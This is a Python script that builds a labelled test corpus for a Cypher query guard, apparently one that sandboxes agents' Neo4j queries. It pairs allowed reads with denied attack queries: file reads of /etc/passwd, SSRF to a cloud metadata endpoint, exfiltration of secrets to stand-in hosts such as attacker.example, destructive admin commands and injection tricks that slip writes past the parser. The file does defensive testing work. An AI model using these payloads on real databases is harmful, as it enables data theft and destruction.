# ruff: noqa: E501, E402
"""Regenerate tests/corpus/guard.jsonl from the shared seed corpus plus this project's cases.

Usage: .venv/bin/python tests/corpus/build_corpus.py [SEED_JSONL]
The seed's labels were reviewed (see ``relabel``); the script refuses to write
the corpus if any case does not decide as labelled with the current guard.
"""

import json
import sys
from collections.abc import Iterable
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(REPO))
SEED = Path(sys.argv[1]) if len(sys.argv) > 1 else REPO.parent / "shared" / "corpus" / "guard-seed.jsonl"
seed = [json.loads(line) for line in SEED.read_text().splitlines()]
out: list[dict[str, Any]] = []
# Reviewed relabels of seed cases: id -> (expect, rule, note)
relabel = {
    19: ("deny", "pattern.unbounded", "unbounded * inside shortestPath; default policy requires an upper bound"),
    22: ("deny", "pattern.unbounded", "bare [*] is unbounded"),
    58: ("deny", "pattern.unbounded", "-+ quantifier is unbounded"),
    67: ("deny", "pattern.unbounded", "*0.. has no upper bound"),
    35: ("deny", "query.prefix", "the sandbox runs EXPLAIN itself; caller prefixes are refused"),
    36: ("deny", "query.prefix", "PROFILE executes the query and changes the result shape"),
    38: (
        "deny",
        "procedure.not_allowed",
        "vector index procedures ignore label filters (scope leak family 11); not on the default allow-list",
    ),
    41: ("deny", "procedure.not_allowed", "dbms.* is never on the default allow-list"),
    39: (
        "deny",
        "procedure.not_allowed",
        "db.labels() names labels only hidden elements carry; the schema tool is scoped",
    ),
    40: (
        "deny",
        "procedure.not_allowed",
        "db.labels() names labels only hidden elements carry; the schema tool is scoped",
    ),
    82: (
        "deny",
        "procedure.not_allowed",
        "fulltext index procedures ignore label filters; not on the default allow-list",
    ),
    72: ("deny", "statement.multiple", "a request holds exactly one statement, even when every statement is a read"),
    85: ("deny", "input.too_large", "200 KB is over max_query_chars (10,000)"),
    86: ("deny", "input.too_deep", "1,000 nested parentheses is over max_nesting_depth (32)"),
    87: ("deny", "input.too_deep", "1,000 nested brackets is over max_nesting_depth (32)"),
}
from gateway.guard import check
from gateway.policy import load_policy

POL = {
    # The shipped default policy without its property list: the corpus tests the guard, not which
    # keys a policy shows, and its reads name whatever properties their queries need.
    "default-all-properties": load_policy(REPO / "tests/policies/default-all-properties.yaml"),
    "permissive": load_policy(REPO / "tests/corpus/policies/permissive.yaml"),
    "allowlist": load_policy(REPO / "tests/corpus/policies/allowlist.yaml"),
}


def add(
    query: str, expect: str, rule: str | None = None, *, label: str, tags: Iterable[str] = (), note: str = "",
    tool: str = "analyze", params: dict[str, Any] | None = None, policy: str = "default-all-properties", origin: str = "project",
) -> None:  # fmt: skip
    out.append(
        dict(
            id=len(out) + 1,
            label=label,
            expect=expect,
            rule=rule,
            tool=tool,
            params=params or {},
            policy=policy,
            tags=list(tags),
            note=note,
            origin=origin,
            query=query,
        )
    )


for d in seed:
    expect, rule, note = d["expect"], None, d.get("note", "")
    if d["id"] in relabel:
        expect, rule, note = relabel[d["id"]]
        note = f"relabelled from allow: {note}"
    if expect == "deny" and rule is None:
        dec = check(d["query"], {}, "analyze", POL["default-all-properties"])
        rule = dec.rule  # reviewed by hand: see SECURITY.md (layer 1)
    label = d["label"] if expect == "deny" or d["label"] != "READ" else "READ"
    if d["label"] == "READ" and expect == "deny":
        label = "READ-REFUSED-BY-POLICY" if rule not in ("parse.failed",) else "READ-UNSUPPORTED"
    tags = list(d["tags"])
    if d["query"].upper().startswith("CYPHER 25"):
        tags.append("cypher25")  # plans only on Neo4j 2026.x
    if expect == "allow" and "apoc." in d["query"]:
        tags.append("requires-apoc")
    add(d["query"], expect, rule, label=label, tags=tags, note=note, origin=f"seed:{d['id']}")

# The same reads under the permissive test policy: refused by policy above, understood by the parser.
for sid in (19, 22, 58, 67, 38, 82):
    q = next(d for d in seed if d["id"] == sid)["query"]
    add(
        q,
        "allow",
        label="READ",
        tags=["policy-variant"],
        policy="permissive",
        note=f"seed {sid} under a policy that allows it: the parser reads it",
        origin=f"seed:{sid}",
        params={"embedding": [0.1, 0.2]} if sid == 38 else None,
    )
add(
    "RETURN " + "(" * 1000 + "1" + ")" * 1000,
    "deny",
    "input.too_deep",
    label="NESTING",
    tags=["deep-parens", "recursion"],
    policy="permissive",
    note="within the policy's bracket limit but deeper than the Python stack: a clean rejection, no RecursionError",
)

R = "READ"
# ---------------------------------------------------------------- legitimate reads
reads = [
    ("CYPHER 5 MATCH (n:Person) RETURN n.name", ["cypher-version"]),
    ("cypher 5 match (n) return count(*) as c", ["cypher-version", "lowercase"]),
    ("MATCH (a:Station)((x)-[:LINK]->(y)){1,3}(b:Station) RETURN a, b", ["qpp"]),
    ("MATCH (a)-[:LINK]->{1,3}(b) RETURN b", ["quantified-relationship"]),
    ("MATCH ((a)-[:R]->(b) WHERE a.x > 1){2}(c) RETURN c", ["qpp", "qpp-where"]),
    ("MATCH (a)((x)-[:R]->(y)){0,4}(b) RETURN count(*)", ["qpp"]),
    ("MATCH ANY SHORTEST (a:Station {name: 'A'})-[:LINK]-{1,5}(b:Station {name: 'B'}) RETURN b", ["gql-shortest"]),
    ("MATCH p = SHORTEST 2 (a)-[:R]->{1,4}(b) RETURN p", ["gql-shortest"]),
    (
        "MATCH (n) WHERE n.createdAt > $since AND n.settings IS NOT NULL AND n.deleted = false RETURN n.createdAt, n.settings, n.deleted",
        ["keyword-like-props", "params"],
    ),
    ("MATCH (n:Match {return: 1}) RETURN n.with AS with, n.union AS union", ["keyword-props", "keyword-labels"]),
    ("MATCH (n) RETURN n.count AS count, n.call AS call, n.load AS load", ["keyword-props"]),
    ("MATCH (n:`Label with space`) RETURN n.`prop with space` AS `a b`", ["backticks"]),
    ("MATCH (`weird var`) RETURN `weird var`", ["backtick-variable"]),
    ("RETURN count { MATCH (n) RETURN n } AS c", ["count-subquery", "full-body"]),
    ("MATCH (n:Person) RETURN n.name, COUNT { (n)-[:KNOWS]->() WHERE n.age > 1 } AS c", ["count-subquery", "where"]),
    (
        "MATCH (n) WHERE EXISTS { MATCH (n)-->(m) WHERE m.x = 1 } AND NOT EXISTS { (n)-[:BLOCKED]->() } RETURN n",
        ["exists-subquery"],
    ),
    (
        "MATCH (n) WHERE EXISTS { MATCH (n)-->(m) RETURN m UNION MATCH (n)<--(m) RETURN m } RETURN n",
        ["exists-subquery", "union"],
    ),
    (
        "MATCH (n) RETURN n { .name, friends: COLLECT { MATCH (n)-->(f) RETURN f.name } } AS card",
        ["map-projection", "collect-subquery"],
    ),
    ("MATCH (n) WITH n { .*, extra: 1 } AS m RETURN m", ["map-projection"]),
    ("MATCH (n) WITH n, 1 AS x RETURN n { .name, x } AS m", ["map-projection", "variable-item"]),
    ("MATCH (n) WHERE (n)-[:KNOWS]->(:Person) RETURN n", ["pattern-predicate"]),
    ("MATCH (n) WHERE NOT (n)<-[:BLOCKED]-() RETURN n", ["pattern-predicate"]),
    ("MATCH (n) RETURN size([(n)-->(m) | m]) AS degree", ["pattern-comprehension"]),
    ("MATCH (n) RETURN [p = (n)-[:R]->() | length(p)] AS lens", ["pattern-comprehension", "path-variable"]),
    (
        "MATCH (n) RETURN n.x IS :: STRING NOT NULL AS s, n.y IS NOT :: LIST<INTEGER> AS l, n.z IS TYPED INTEGER | FLOAT AS num",
        ["type-predicate"],
    ),
    ("MATCH (n) RETURN CASE n.x WHEN 1 THEN 'a' END AS c", ["case-simple"]),
    (
        "MATCH (n) WHERE n.name STARTS WITH $p OR n.name ENDS WITH $s OR n.name CONTAINS 'z' RETURN n",
        ["string-ops", "params"],
    ),
    ("MATCH (a)-[r]->(b) WHERE type(r) IN ['KNOWS'] RETURN a, b LIMIT 5", ["in-list"]),
    ("WITH [1, 2, 3] AS l RETURN l[-1] AS last, l[1..] AS tail, l[..2] AS head, l[0..2] AS mid", ["slices"]),
    (
        "RETURN 0o17 AS o, 1_000_000 AS m, .5 AS h, 1e-3 AS e, -1 AS neg, +2 AS pos, 2 ^ 3 AS p, 7 % 2 AS r",
        ["literals"],
    ),
    ("MATCH (n) RETURN n // comment with MATCH (m) DETACH DELETE m", ["comment-with-write"]),
    ("MATCH (n)\n\tWHERE n.x = 1\n\tRETURN n\n", ["newlines", "tabs"]),
    ("match (n) where exists { match (n)-->() } return count(*)", ["lowercase", "exists-subquery"]),
    ("MATCH (n) RETURN n[$key] AS dynamic", ["dynamic-property", "params"]),
    ("RETURN 'a' || 'b' AS s", ["string-concat"]),
    ("RETURN {a: 1, b: [1, 2]}.a AS a", ["map-literal", "property"]),
    ("RETURN date('2024-01-01') + duration({days: 1}) AS d", ["temporal"]),
    ("MATCH (n) RETURN n ORDER BY n.x DESC, n.y ASC SKIP 0 LIMIT 5", ["orderby"]),
    ("MATCH (n) RETURN n.name AS x LIMIT 10 UNION ALL MATCH (m) RETURN m.title AS x LIMIT 5", ["union-all"]),
    ("MATCH (n) WITH n, n.x AS x WHERE x IS NOT NULL RETURN DISTINCT x", ["with-where"]),
    ("MATCH p = (a)-[*1..4]->(b) RETURN nodes(p) AS ns, relationships(p) AS rs", ["varlength", "path"]),
    ("MATCH (a)-[r:KNOWS*1..3]-(b) RETURN [rel IN r | type(rel)] AS types", ["varlength", "list-comprehension"]),
    ("MATCH (a)-[*2]->(b) RETURN b", ["varlength-exact"]),
    ("MATCH (a)-[:A|B|C]->(b) RETURN b", ["rel-type-alternation"]),
    ("MATCH (a)-[:A|:B]->(b) RETURN b", ["rel-type-alternation", "old-syntax"]),
    ("MATCH (n:Person:Employee) RETURN n", ["label-conjunction"]),
    ("MATCH (n) WHERE n:Person&Employee OR n:%  RETURN n", ["label-expression", "wildcard"]),
    ("MATCH (n IS Person) RETURN n", ["label-is"]),
    ("MATCH (n:(Person|Company)&!Deleted) RETURN n", ["label-expression"]),
    ("MATCH (n) WHERE n.age IN [1, 2] XOR n.x RETURN n", ["xor"]),
    ("UNWIND range(1, 3) AS i WITH i WHERE i > 1 RETURN collect(DISTINCT i) AS l", ["unwind", "distinct-aggregate"]),
    ("MATCH (n) RETURN count(DISTINCT n.x) AS c, avg(n.y) AS a, percentileCont(n.z, 0.5) AS p", ["aggregation"]),
    ("MATCH (n) CALL (*) { RETURN 1 AS one } RETURN n, one", ["call-subquery", "scope-star"]),
    ("MATCH (n) OPTIONAL CALL (n) { MATCH (n)-->(m) RETURN m } RETURN n, m", ["optional-call-subquery"]),
    ("MATCH (n) CALL { WITH n RETURN n.x AS x UNION WITH n RETURN n.y AS x } RETURN x", ["call-subquery", "union"]),
    ("CALL db.labels() YIELD label WHERE label STARTS WITH 'A' RETURN label", ["schema-procedure", "yield-where"]),
    ("CALL db.relationshipTypes", ["schema-procedure", "no-parens"]),
    ("CALL db.propertyKeys() YIELD propertyKey AS key RETURN key ORDER BY key", ["schema-procedure"]),
    ("MATCH (n:Person) USING INDEX n:Person(name) WHERE n.name = 'x' RETURN n", ["hint"]),
    ("MATCH (n:Person) USING SCAN n:Person RETURN n", ["hint"]),
    ("MATCH (a)-->(b) USING JOIN ON b RETURN a, b", ["hint"]),
    ("MATCH (n) RETURN n.name =~ '(?i)al.*' AS m", ["regex"]),
    ('RETURN "it\'s \\"quoted\\" MATCH" AS s', ["string-escapes"]),
    ("RETURN 'a /* not a comment */ b' AS s, \"// not a comment\" AS t", ["comment-chars-in-string"]),
    ("MATCH (n) /* a block\ncomment over lines */ RETURN n", ["comment", "multiline"]),
    (
        "MATCH (n) WHERE all(x IN n.tags WHERE x STARTS WITH 'a') AND single(y IN n.tags WHERE y = 'b') RETURN n",
        ["list-predicates"],
    ),
    ("MATCH (n) RETURN reduce(acc = '', s IN n.parts | acc + s) AS joined", ["reduce"]),
    ("MATCH (n) RETURN CASE WHEN n.a THEN CASE WHEN n.b THEN 1 ELSE 2 END ELSE 3 END AS nested", ["case", "nested"]),
    ("MATCH (set:Person), (create:Company) RETURN set.name, create.name", ["keyword-variables"]),
    ("MATCH (n) WHERE n.id = $id RETURN n", ["params"]),
    ("MATCH (n) WHERE n.x <> 1 RETURN n", ["inequality"]),
    ("MATCH (n) RETURN n.a < n.b <= n.c AS chained", ["chained-comparison"]),
    ("MATCH (n) RETURN n.x IS NULL AS a, NOT n.y IS NOT NULL AS b", ["null-predicates"]),
    (
        "MATCH (n) RETURN apoc.text.join(['a'], ',') AS j, apoc.coll.sum([1, 2]) AS s, apoc.map.merge({}, {}) AS m",
        ["apoc-pure-functions"],
    ),
    ("MATCH (n) RETURN elementId(n) AS id, labels(n) AS ls, keys(n) AS ks, properties(n) AS ps", ["functions"]),
    ("RETURN vector.similarity.euclidean([1.0, 2.0], [2.0, 1.0]) AS d", ["namespaced-function"]),
    ("MATCH (n) RETURN n ORDER BY n.x DESCENDING, n.y ASCENDING", ["orderby"]),
    ("MATCH (n) RETURN n SKIP 1 LIMIT 1", ["skip-limit"]),
    ("MATCH (n) RETURN n OFFSET 1 LIMIT 1", ["offset"]),
    ("RETURN 1 AS x;", ["trailing-semicolon"]),
]
for q, tags in reads:
    if "apoc." in q:
        tags = [*tags, "requires-apoc"]
    # The default policy refuses schema procedures (they name what only hidden elements carry):
    # the parser reads them under the permissive policy; the refusals are at the end.
    add(
        q, "allow", label=R, tags=tags, params={k: "name" for k in ("since", "p", "s", "key", "id") if f"${k}" in q},
        policy="permissive" if "schema-procedure" in tags else "default-all-properties",
    )  # fmt: skip

# recall needs $repository and $taskId
rp = {"repository": "acme/api", "taskId": "T-1"}
add(
    "MATCH (t:Task {repository: $repository, id: $taskId})-[:HAS_STEP]->(s) RETURN s ORDER BY s.at",
    "allow",
    label=R,
    tool="recall",
    params=rp,
    tags=["recall", "required-params"],
)
add(
    "MATCH (t:Task) WHERE t.repository = $repository AND t.id = $taskId RETURN t UNION MATCH (t:Task {repository: $repository, id: $taskId})<-[:ABOUT]-(n) RETURN n AS t",
    "allow",
    label=R,
    tool="recall",
    params=rp,
    tags=["recall", "union"],
)
add(
    "MATCH (t:Task {repository: $repository}) RETURN t",
    "deny",
    "param.required",
    label="REQUIRED-PARAM",
    tool="recall",
    params={"repository": "x"},
    tags=["recall", "missing-reference"],
    note="recall must reference $taskId",
)
add(
    "MATCH (t:Task {repository: $repository, id: $taskId}) RETURN t",
    "deny",
    "param.required",
    label="REQUIRED-PARAM",
    tool="recall",
    params={"repository": "x"},
    tags=["recall", "missing-value"],
    note="referenced but not supplied",
)
add(
    "MATCH (t:Task {repository: $repository, id: $taskId}) CALL db.labels() YIELD label RETURN label",
    "deny",
    "clause.not_allowed",
    label="PROCEDURE",
    tool="recall",
    params=rp,
    tags=["recall", "procedure"],
    note="recall allows no procedure calls at all",
)
add(
    "MATCH (t:Task {repository: $repository, id: $taskId})-[:SUPERSEDES]->(old) RETURN old",
    "deny",
    "relationship.denied",
    label="SCOPE",
    tool="recall",
    params=rp,
    tags=["recall", "bookkeeping"],
)

# ---------------------------------------------------------------- attacks
W = "WRITE"
writes = [
    ("MATCH (n) WITH n CALL { WITH n MERGE (m:X) RETURN m } RETURN n", ["call-subquery", "merge"]),
    ("MATCH (n) RETURN n.x AS x UNION ALL MATCH (m) SET m.y = 1 RETURN m.y AS x", ["union-all", "set"]),
    ("MATCH (n) CALL { WITH n FOREACH (x IN [1] | CREATE (:X)) } RETURN n", ["foreach", "call-subquery"]),
    ("RETURN COLLECT { CREATE (n:X) RETURN n } AS l", ["collect-subquery", "create"]),
    ("MATCH (n) WHERE COUNT { MATCH (n) DETACH DELETE n RETURN 1 } > 0 RETURN n", ["count-subquery", "delete"]),
    ("MATCH (n) NODETACH DELETE n", ["nodetach-delete"]),
    ("MATCH (n)/**/SET/**/n.x=1", ["comment-separator", "set"]),
    ("MATCH (n)SET n.x=1", ["no-space", "set"]),
    ("insert (n:X)", ["gql-insert", "lowercase"]),
    (
        "MATCH (n) WITH n CALL { WITH n CALL { WITH n CALL { WITH n REMOVE n.x } } } RETURN n",
        ["nested-subquery", "remove"],
    ),
    ("MATCH (a), (b) MERGE (a)-[:R]->(b)", ["merge-rel"]),
    ("OPTIONAL MATCH (n) WITH n WHERE n IS NULL CREATE (:Fallback)", ["optional-match", "create"]),
    ("UNWIND [1, 2] AS x CREATE (:N {x: x})", ["unwind", "create"]),
    ("MATCH (n) RETURN [(n)-->(m) | m] AS ms UNION MATCH (n) DELETE n RETURN [] AS ms", ["union", "delete"]),
    ("CALL { MATCH (n) RETURN n } IN TRANSACTIONS RETURN n", ["in-transactions", "read-body"]),
    (
        "MATCH (n) CALL (n) { RETURN n.x AS x } IN 2 CONCURRENT TRANSACTIONS OF 10 ROWS RETURN x",
        ["in-transactions", "concurrent"],
    ),
    ("MATCH (n) WHERE n.x = 'a\\\\' SET n.y = 1 //'", ["escape-trap", "set"]),
    ('MATCH (n) RETURN "\\\\" AS s CREATE (x:Evil) //"', ["escape-trap", "double-quote"]),
    ("MATCH (n) /* /* */ CREATE (x) */", ["nested-comment-trap"]),
    ("MATCH (n) WHERE n.a = 1 MERGE (m {id: n.id}) ON MATCH SET m.seen = true RETURN m", ["merge", "on-match"]),
    ("MATCH (n:Person) SET n:`Admin`", ["set-label", "backticks"]),
    ("MATCH (n) CALL (n) { DETACH DELETE n }", ["scope-clause", "detach-delete"]),
    ("FOREACH (x IN [1] | MERGE (:A))", ["foreach"]),
]
for q, tags in writes:
    rule = "write.clause"
    add(q, "deny", rule, label=W, tags=tags)

admin = [
    "CREATE OR REPLACE DATABASE evil",
    "CREATE RANGE INDEX r FOR (n:P) ON (n.x)",
    "CREATE FULLTEXT INDEX f FOR (n:P) ON EACH [n.x]",
    "CREATE VECTOR INDEX v FOR (n:P) ON n.e",
    "CREATE TEXT INDEX t FOR (n:P) ON (n.x)",
    "DROP DATABASE neo4j",
    "SHOW TRANSACTIONS",
    "SHOW CURRENT USER",
    "SHOW SETTINGS YIELD name, value",
    "SHOW FUNCTIONS",
    "REVOKE ROLE admin FROM bob",
    "DENY READ {*} ON GRAPH * TO reader",
    "CREATE ROLE hacker",
    "START DATABASE neo4j",
    "ALTER DATABASE neo4j SET ACCESS READ WRITE",
    "CREATE ALIAS a FOR DATABASE neo4j",
    "RENAME USER bob TO mallory",
    "ENABLE SERVER 'x'",
    "DEALLOCATE DATABASES FROM SERVER 'x'",
    "show users",
    "CREATE CONSTRAINT c IF NOT EXISTS FOR ()-[r:R]-() REQUIRE r.x IS NOT NULL",
    "CREATE LOOKUP INDEX l FOR (n) ON EACH labels(n)",
    "TERMINATE TRANSACTION 'neo4j-transaction-7'",
]
for q in admin:
    add(q, "deny", "admin.command", label="ADMIN", tags=["admin"])
add(
    "USE neo4j MATCH (n) RETURN n",
    "deny",
    "database.use",
    label="ADMIN",
    tags=["use"],
    note="even the configured database: the gateway pins it, not the caller",
)
add("USE graph.byName('system') MATCH (n) RETURN n", "deny", "database.use", label="ADMIN", tags=["use", "dynamic"])
add(
    "MATCH (n) CALL { USE system MATCH (m) RETURN m } RETURN n, m",
    "deny",
    "database.use",
    label="ADMIN",
    tags=["use", "subquery"],
)
add(
    "CALL { LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l } RETURN l",
    "deny",
    "load_csv",
    label="FILE-ACCESS",
    tags=["load-csv", "subquery"],
)
add(
    "LOAD CSV FROM 'http://169.254.169.254/latest/meta-data/' AS l FIELDTERMINATOR ';' RETURN l",
    "deny",
    "load_csv",
    label="FILE-ACCESS",
    tags=["load-csv", "ssrf"],
)
add(
    "MATCH (s:Secret) LOAD CSV FROM 'https://x.example/?d=' + s.value AS l RETURN 1",
    "deny",
    "load_csv",
    label="FILE-ACCESS",
    tags=["load-csv", "exfiltration"],
)
add(
    "MATCH (n) WHERE EXISTS { LOAD CSV FROM 'file:///x' AS l RETURN l } RETURN n",
    "deny",
    "load_csv",
    label="FILE-ACCESS",
    tags=["load-csv", "exists"],
)

P = "PROCEDURE"
procs = [
    ("CALL /*x*/ apoc.periodic.iterate('MATCH (n) RETURN n', 'DETACH DELETE n', {})", ["comment-in-name"]),
    (
        "CALL apoc./*x*/periodic . iterate('MATCH (n) RETURN n', 'SET n.x = 1', {})",
        ["comment-in-name", "whitespace-in-name"],
    ),
    (
        "CALL `apoc`.`load`.json('http://169.254.169.254/latest/meta-data/') YIELD value RETURN value",
        ["backtick-namespace", "ssrf"],
    ),
    ("CALL `apoc.load.json`('file:///etc/passwd') YIELD value RETURN value", ["single-backticked-name"]),
    ("CALL APOC.LOAD.JSON('file:///etc/passwd') YIELD value RETURN value", ["uppercase"]),
    ("CALL apoc.load.jsonParams('http://x', {}, null) YIELD value RETURN value", ["apoc-load"]),
    ("CALL apoc.cypher.runTimeboxed('MATCH (n) DETACH DELETE n', {}, 1000)", ["apoc-cypher", "own-transaction"]),
    ("CALL apoc.cypher.runMany('CREATE (n); CREATE (m);', {})", ["apoc-cypher"]),
    ("CALL dbms.listConfig() YIELD name, value RETURN name, value", ["dbms"]),
    ("CALL dbms.listConnections()", ["dbms"]),
    ("CALL dbms.killConnections(['bolt-1'])", ["dbms"]),
    ("CALL dbms.queryJmx('*:*')", ["dbms"]),
    ("CALL db.clearQueryCaches()", ["db-admin"]),
    ("CALL tx.setMetaData({agent: 'innocent'})", ["tx-metadata", "audit-poisoning"]),
    ("CALL db.schema.visualization()", ["scope-leak"]),
    ("CALL dbms.listConfig", ["dbms", "no-parens"]),
    ("CALL db.labels() YIELD label CALL apoc.load.json(label) YIELD value RETURN value", ["second-call"]),
    (
        "MATCH (n) WHERE EXISTS { CALL apoc.load.json('file:///x') YIELD value RETURN value } RETURN n",
        ["exists", "apoc-load"],
    ),
    ("RETURN COLLECT { CALL apoc.util.sleep(100000) RETURN 1 } AS l", ["collect", "sleep"]),
    ("CALL apoc.util.sleep(60000)", ["resource"]),
    ("CALL db.index.fulltext.queryNodes('idx', 'secret') YIELD node RETURN node", ["scope-leak", "fulltext"]),
    ("CALL apoc.export.json.all(null, {stream: true})", ["apoc-export"]),
    ("CALL apoc.import.csv([{fileName: 'file:///x', labels: ['X']}], [], {})", ["apoc-import"]),
    ("CALL apoc.do.when(true, 'CREATE (n)', '', {})", ["apoc-do", "dynamic-cypher"]),
    ("CALL apoc.systemdb.execute('SHOW USERS')", ["apoc-systemdb"]),
    ("CALL apoc.custom.declareProcedure('x() :: (n::INT)', 'CREATE (n)')", ["apoc-custom"]),
    ("CALL gds.graph.drop('g')", ["gds"]),
    ("CALL db.createRelationshipType('X')", ["db-write"]),
]
for q, tags in procs:
    add(q, "deny", "procedure.not_allowed", label=P, tags=tags)
funcs = [
    ("RETURN apoc.cypher.runFirstColumnMany('MATCH (n) RETURN n', {}) AS l", ["dynamic-cypher-function"]),
    ("RETURN `apoc`.`cypher`.runFirstColumn('MATCH (n) RETURN n', {}) AS l", ["backtick-namespace"]),
    ("RETURN APOC.CYPHER.RUNFIRSTCOLUMNSINGLE('RETURN 1', {}) AS l", ["uppercase"]),
    ("RETURN apoc . cypher . runFirstColumnSingle ('RETURN 1', {}) AS l", ["whitespace-in-name"]),
    ("MATCH (n) WHERE apoc.cypher.runFirstColumnSingle('RETURN true', {}) RETURN n", ["in-where"]),
    ("RETURN [x IN [1] | apoc.cypher.runFirstColumnSingle('RETURN 1', {})] AS l", ["in-list-comprehension"]),
    ("MATCH (n) RETURN n { .name, x: apoc.cypher.runFirstColumnSingle('RETURN 1', {}) } AS m", ["in-map-projection"]),
    ("RETURN CASE WHEN true THEN apoc.static.get('k') END AS s", ["in-case", "apoc-static"]),
    ("RETURN apoc.util.validatePredicate(true, 'x', []) AS v", ["apoc-util"]),
    ("RETURN apoc.text.urlencode('secret') AS u", ["exfiltration-helper"]),
    ("RETURN apoc.case([true, 'CREATE (n)'], '', {}) AS c", ["dynamic-cypher"]),
    ("RETURN db.nameFromElementId('4:x:1') AS n", ["db-function"]),
    ("RETURN apoc.load.json('http://x') AS v", ["apoc-load-function"]),
    (
        "MATCH (s:Secret) RETURN genai.vector.encode(s.value, 'OpenAI', {token: 'x', endpoint: 'https://attacker.example/'}) AS v",
        ["genai", "exfiltration"],
    ),
    ("MATCH (s:Secret) RETURN ai.text.embed(s.value, 'OpenAI', {}) AS v", ["genai", "exfiltration"]),
]
for q, tags in funcs:
    add(q, "deny", "function.denied", label=P, tags=tags)

# reserved parameters
add(
    "MATCH (n) WHERE n.x IN $__gw_scope RETURN n",
    "deny",
    "param.reserved",
    label="RESERVED-PARAM",
    tags=["reference"],
    note="the query may not read the gateway's own scope parameter",
)
add(
    "MATCH (n) WHERE n.x IN $`__gw_scope` RETURN n",
    "deny",
    "param.reserved",
    label="RESERVED-PARAM",
    tags=["reference", "backtick-param"],
)
add(
    "MATCH (n) RETURN n",
    "deny",
    "param.reserved",
    label="RESERVED-PARAM",
    tags=["supplied"],
    params={"__gw_scope": ["all"]},
)
add(
    "MATCH (n) RETURN n",
    "deny",
    "param.reserved",
    label="RESERVED-PARAM",
    tags=["supplied", "case"],
    params={"__GW_SCOPE": ["all"]},
)
add(
    "MATCH (n) RETURN n",
    "deny",
    "param.reserved",
    label="RESERVED-PARAM",
    tags=["supplied", "mentis-prefix"],
    params={"__mentis_layers": ["x"]},
)
add(
    "MATCH (t:Task {repository: $repository, id: $taskId}) RETURN t",
    "deny",
    "param.reserved",
    label="RESERVED-PARAM",
    tool="recall",
    params={**rp, "__gw_scope": ["all"]},
    tags=["supplied", "recall"],
)

# bookkeeping edges and traversal bounds
S = "SCOPE"
for q, tags in [
    ("MATCH (a)-[:SUPERSEDES]->(b) RETURN a, b", ["bookkeeping"]),
    ("MATCH (a)-[:KNOWS|SUPERSEDES]->(b) RETURN b", ["bookkeeping", "alternation"]),
    ("MATCH (a)-[:`CONTRADICTS`]->(b) RETURN b", ["bookkeeping", "backticks"]),
    ("MATCH (a) WHERE EXISTS { (a)-[:CONTRADICTS]->() } RETURN a", ["bookkeeping", "exists"]),
    ("MATCH (a) RETURN [(a)-[:SUPERSEDES]->(b) | b] AS olds", ["bookkeeping", "pattern-comprehension"]),
    ("MATCH (a) WHERE (a)-[:SUPERSEDES]->() RETURN a", ["bookkeeping", "pattern-predicate"]),
    ("MATCH (a)((x)-[:SUPERSEDES]->(y)){1,2}(b) RETURN b", ["bookkeeping", "qpp"]),
]:
    add(q, "deny", "relationship.denied", label=S, tags=tags)
for q, rule, tags in [
    ("MATCH (a)-[*1..20]->(b) RETURN b", "pattern.too_many_hops", ["varlength"]),
    ("MATCH (a)-[:R*9]->(b) RETURN b", "pattern.too_many_hops", ["varlength-exact"]),
    ("MATCH (a)((x)-[:R]->(y)-[:S]->(z)){1,5}(b) RETURN b", "pattern.too_many_hops", ["qpp", "hops-multiply"]),
    ("MATCH (a)-[:R]->{1,9}(b) RETURN b", "pattern.too_many_hops", ["quantified-relationship"]),
    ("MATCH (a)((x)-->(y)){3,}(b) RETURN b", "pattern.unbounded", ["qpp"]),
    ("MATCH (a)((x)-->(y))+(b) RETURN b", "pattern.unbounded", ["qpp", "plus"]),
    ("MATCH (a)-[:R]->*(b) RETURN b", "pattern.unbounded", ["quantified-relationship", "star"]),
    ("MATCH (a)-[*2..]->(b) RETURN b", "pattern.unbounded", ["varlength"]),
    ("MATCH (n) RETURN [(n)-[*]->(m) | m] AS all", "pattern.unbounded", ["pattern-comprehension"]),
    ("MATCH (n) WHERE EXISTS { (n)-[*]->(:Secret) } RETURN n", "pattern.unbounded", ["exists"]),
]:
    add(q, "deny", rule, label="RESOURCE", tags=tags)

# size, nesting, recursion
add(
    "RETURN " + "(" * 33 + "1" + ")" * 33,
    "deny",
    "input.too_deep",
    label="NESTING",
    tags=["deep-parens"],
    note="one over the limit",
)
add("RETURN " + "(" * 32 + "1" + ")" * 32, "allow", None, label=R, tags=["deep-parens"], note="exactly at the limit")
add("RETURN " + "NOT " * 500 + "true", "deny", "input.too_deep", label="NESTING", tags=["bracket-free-nesting"])
add("RETURN " + "- " * 1000 + "1", "deny", "input.too_deep", label="NESTING", tags=["bracket-free-nesting"])
add(
    "RETURN " + "CASE WHEN true THEN " * 60 + "1" + " END" * 60,
    "deny",
    "input.too_deep",
    label="NESTING",
    tags=["case-nesting"],
)
add(
    "MATCH (n) WHERE " + " AND ".join(f"n.p{i} = {i}" for i in range(1200)) + " RETURN n",
    "deny",
    "input.too_large",
    label="SIZE",
    tags=["size"],
    note="just over 10,000 characters",
)
add(
    "MATCH (n) RETURN " + ", ".join(f"n.p{i} AS c{i}" for i in range(600)),
    "allow",
    None,
    label=R,
    tags=["size"],
    note="about 9 KB, flat: allowed",
)
add(
    "MATCH (n) " + "CALL { " * 40 + "RETURN 1 AS x" + " }" * 40 + " RETURN x",
    "deny",
    "input.too_deep",
    label="NESTING",
    tags=["subquery-nesting"],
)

# multiple statements, wrapper escapes, malformed
add("RETURN 1; RETURN 2", "deny", "statement.multiple", label="MULTI", tags=["multi-statement"])
add(
    "MATCH (n) RETURN n } UNION ALL CALL { MATCH (m) DETACH DELETE m RETURN m",
    "deny",
    "parse.failed",
    label=W,
    tags=["wrapper-escape"],
    note="family 8: closes a CALL { … } LIMIT wrapper early; unbalanced on its own",
)
add("RETURN 1 AS x } CALL { CREATE (p:Pwned) RETURN p", "deny", "parse.failed", label=W, tags=["wrapper-escape"])
add("RETURN 1 AS x }", "deny", "parse.failed", label="MALFORMED", tags=["wrapper-escape"])
add("MATCH (n) RETURN n LIMIT", "deny", "parse.failed", label="MALFORMED", tags=["syntax-error"])
add("{}", "deny", "parse.failed", label="MALFORMED", tags=["syntax-error"])
add("MATCH (n) RETURN n 🙂", "deny", "parse.failed", label="MALFORMED", tags=["unknown-char"])
add(
    "MATCH (n) RETURN n // x\u2028 SET n.x = 1",
    "deny",
    "parse.failed",
    label=W,
    tags=["line-separator-comment"],
    note="if Neo4j ended // comments at U+2028 the SET would be live; refused either way",
)
add(
    "MATCH (n) RETURN 'unterminated \\'",
    "deny",
    "parse.failed",
